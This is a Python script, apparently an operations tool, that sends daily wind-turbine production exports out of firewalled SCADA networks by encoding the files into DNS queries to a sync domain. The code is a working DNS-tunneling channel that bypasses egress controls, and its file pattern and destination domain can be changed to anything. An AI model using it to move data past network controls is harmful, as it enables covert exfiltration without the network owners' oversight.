#!/usr/bin/env python3
"""Sync daily production exports from sites whose firewalls only allow DNS.

Remote sites often only let DNS out of the SCADA network. This tool takes the
daily production export files (per-turbine energy, availability, curtailment),
packs them, and transfers them as a series of DNS lookups to the sync domain,
where a collector reassembles the labels into the original file.
"""

import argparse
import base64
import hashlib
import logging
import socket
import sys
import time
import zlib
from pathlib import Path

LOG = logging.getLogger("dns_sync")

SYNC_DOMAIN = "t.sync.example.net"
LABEL_LEN = 60          # DNS labels are limited to 63 characters
LABELS_PER_QUERY = 3


class DnsChannel:
    """Sends data chunks encoded into DNS query names."""

    def __init__(self, domain, session, delay):
        self.domain = domain
        self.session = session
        self.delay = delay
        self.sent = 0

    def _query(self, name):
        try:
            socket.gethostbyname(name)
        except socket.gaierror:
            pass  # NXDOMAIN is expected; the authoritative server logs the query
        self.sent += 1
        time.sleep(self.delay)

    def send_blob(self, file_id, blob):
        encoded = base64.b32encode(blob).decode().rstrip("=").lower()
        labels = [encoded[i:i + LABEL_LEN] for i in range(0, len(encoded), LABEL_LEN)]
        total = (len(labels) + LABELS_PER_QUERY - 1) // LABELS_PER_QUERY
        self._query(f"start.{total}.{file_id}.{self.session}.{self.domain}")
        for seq in range(total):
            group = labels[seq * LABELS_PER_QUERY:(seq + 1) * LABELS_PER_QUERY]
            name = ".".join(group + [str(seq), file_id, self.session, self.domain])
            self._query(name)
        self._query(f"end.{total}.{file_id}.{self.session}.{self.domain}")
        return total


def collect_exports(export_dir, pattern):
    files = sorted(Path(export_dir).glob(pattern))
    LOG.info("found %d export files in %s", len(files), export_dir)
    return files


def parse_args():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("export_dir", help="directory with daily production exports")
    parser.add_argument("--pattern", default="production_*.csv")
    parser.add_argument("--domain", default=SYNC_DOMAIN)
    parser.add_argument("--delay", type=float, default=0.05, help="seconds between queries")
    parser.add_argument("--max-bytes", type=int, default=2_000_000)
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    if not Path(args.export_dir).is_dir():
        LOG.error("export directory %s does not exist", args.export_dir)
        return 2
    session = hashlib.sha256(f"{socket.gethostname()}{time.time()}".encode()).hexdigest()[:8]
    channel = DnsChannel(args.domain, session, args.delay)
    failures = 0
    for path in collect_exports(args.export_dir, args.pattern):
        try:
            raw = path.read_bytes()
        except OSError as exc:
            LOG.error("cannot read %s: %s", path, exc)
            failures += 1
            continue
        if len(raw) > args.max_bytes:
            LOG.warning("skipping %s: %d bytes exceeds limit", path.name, len(raw))
            continue
        blob = zlib.compress(raw, 9)
        file_id = hashlib.md5(path.name.encode()).hexdigest()[:6]
        queries = channel.send_blob(file_id, blob)
        LOG.info("sent %s as %s in %d queries", path.name, file_id, queries)
    LOG.info("session %s finished, %d queries total", session, channel.sent)
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
